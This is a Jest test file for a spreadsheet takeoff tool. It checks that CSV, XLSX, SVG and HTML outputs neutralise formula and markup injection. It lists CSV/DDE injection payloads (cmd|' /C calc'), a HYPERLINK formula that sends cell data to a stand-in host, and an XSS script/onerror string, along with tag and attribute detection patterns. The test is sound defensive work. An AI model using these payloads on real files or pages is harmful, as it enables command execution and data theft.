/** Names that would run as a formula or a script are only text in every file that is written. */
import fs from "node:fs";
import path from "node:path";
import { worksheetFunctions } from "../../src/functions/registry.js";
import { openWorkbook } from "../../src/host/engine/index.js";
import { readEntries, unpack } from "../../src/host/engine/zip.js";
import { safeText, toCsv } from "../../src/pane/csv.js";
import { csvText } from "../../src/cli/csv.js";
import { file } from "../host/make.js";
import { emptyFolder, removeFolders, run } from "./run.js";
import { SHED, row } from "./shed.js";

jest.setTimeout(120_000);
afterAll(removeFolders);

/** What a spreadsheet would run, or a page. */
const FORMULAS = [
  '=HYPERLINK("http://harm.test/"&A1,"see")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "＝1+1",
];
const MARKUP = `</text></svg><script>harm()</script><img src=x onerror=harm()>"'&`;

/** Lines of comma-separated text as their fields. */
function fieldsOf(csv: string): string[] {
  const fields: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g;
  for (const [, quoted, bare] of csv.replace(/^\ufeff/, "").matchAll(field)) {
    fields.push(quoted === undefined ? (bare ?? "") : quoted.replace(/""/g, '"'));
  }
  return fields;
}

const runsAsFormula = (field: string): boolean =>
  /^[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(field) && !/^-?\d+(?:\.\d+)?$/.test(field);

test.each(FORMULAS)("as a field of comma-separated text: %j", (text) => {
  for (const written of [csvText([[text, 1]]), toCsv([[text, 1]])]) {
    const fields = fieldsOf(written);
    expect(fields.some((each) => each.includes(text.trim()))).toBe(true);
    expect(fields.filter(runsAsFormula)).toEqual([]);
  }
  expect(runsAsFormula(safeText(text))).toBe(false);
});

/** Every file below a folder, by its path in it. */
function filesIn(folder: string): Map<string, Buffer> {
  const names = fs.readdirSync(folder, { recursive: true, encoding: "utf8" });
  return new Map(
    names
      .filter((name) => fs.statSync(path.join(folder, name)).isFile())
      .map((name) => [name, fs.readFileSync(path.join(folder, name))])
  );
}

test("as the name of a house, a wall, an opening, an item and a supplier, in every file of a takeoff", async () => {
  const folder = emptyFolder();
  for (const [index, name] of [...FORMULAS, MARKUP].entries()) {
    const wall = `${name} ${index}`;
    const bytes = await file(
      {
        ...SHED,
        Setup: { ...SHED.Setup, Y1: "House", Z1: `'${name}`.slice(1) },
        Walls: { ...SHED.Walls, ...row(2, wall, "6'", "8'", "past", "past") },
        Openings: { ...SHED.Openings, ...row(2, wall, name, "1'-6\"", 0, "3'", "6'-8\"") },
      },
      (library) => {
        // typed as text, not as a formula
        const setup = library.getWorksheet("Setup");
        const walls = library.getWorksheet("Walls");
        const openings = library.getWorksheet("Openings");
        if (!setup || !walls || !openings) throw new Error("a sheet is missing");
        setup.getCell("Z1").value = name;
        walls.getCell("A2").value = wall;
        openings.getCell("A2").value = wall;
        openings.getCell("B2").value = name;
      }
    );
    fs.writeFileSync(path.join(folder, `house ${index}.xlsx`), bytes);
  }
  fs.writeFileSync(
    path.join(folder, "prices.csv"),
    csvQuoted([
      ["Item", "Size", "Price", "Supplier"],
      ["Panel", "48 x 96 in", "30", FORMULAS[0] as string],
      ["Tape", "3 in", "20", MARKUP],
    ])
  );
  const ran = await run("takeoff", [".", "--prices", "prices.csv"], { from: folder });
  expect(ran.code).toBe(0);
  expect(ran.out + ran.err).not.toMatch(/[\u0000-\u0008\u001b]/);
  const files = filesIn(path.join(folder, "takeoff"));
  const kinds = { csv: 0, xlsx: 0, svg: 0, html: 0 };
  for (const [name, bytes] of files) {
    const kind = path.extname(name).slice(1);
    if (kind === "csv") {
      kinds.csv++;
      expect([name, fieldsOf(bytes.toString("utf8")).filter(runsAsFormula)]).toEqual([name, []]);
    } else if (kind === "xlsx") {
      kinds.xlsx++;
      // the formulas of a workbook are those that were typed as formulas
      for (const { formula } of openWorkbook(bytes, worksheetFunctions).formulas()) {
        expect([name, formula]).toEqual([name, expect.not.stringMatching(/HYPERLINK|cmd|1\+1/)]);
      }
      for (const entry of readEntries(bytes)) {
        if (!entry.path.endsWith(".xml")) continue;
        expect(new TextDecoder().decode(unpack(entry))).not.toMatch(/<script|<img/);
      }
    } else if (kind === "svg" || kind === "html") {
      kinds[kind]++;
      const text = bytes.toString("utf8");
      const tags = text.match(/<[a-z][^>]*>/gi) ?? [];
      expect(tags.length).toBeGreaterThan(5);
      expect([
        name,
        tags.filter((tag) => /^<(?:script|img|iframe|object|embed|foreignObject)/i.test(tag)),
      ]).toEqual([name, []]);
      // attributes by name, their values taken out: a value in quotes is text
      const bare = tags.map((tag) => tag.replace(/"[^"]*"/g, '""'));
      const acting = bare.filter((tag) =>
        /\s(?:on[a-z]+|href|src|xlink:href|action)\s*=/i.test(tag)
      );
      expect([name, acting]).toEqual([name, []]);
    }
  }
  for (const count of Object.values(kinds)) expect(count).toBeGreaterThan(0);
});

function csvQuoted(rows: readonly (readonly string[])[]): string {
  return rows
    .map((each) => each.map((field) => `"${field.replace(/"/g, '""')}"`).join(","))
    .join("\r\n");
}
